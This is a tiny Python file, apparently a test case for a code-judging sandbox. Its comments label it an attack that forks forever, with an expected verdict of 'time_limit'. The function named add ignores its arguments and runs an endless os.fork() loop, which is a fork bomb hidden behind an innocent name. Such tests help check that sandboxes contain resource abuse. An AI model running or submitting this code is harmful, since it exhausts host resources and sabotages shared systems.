# attack: forks for ever, from every process
# door: call
# verdict: time_limit
import os


def add(left, right):
    while True:
        try:
            os.fork()
        except OSError:
            pass
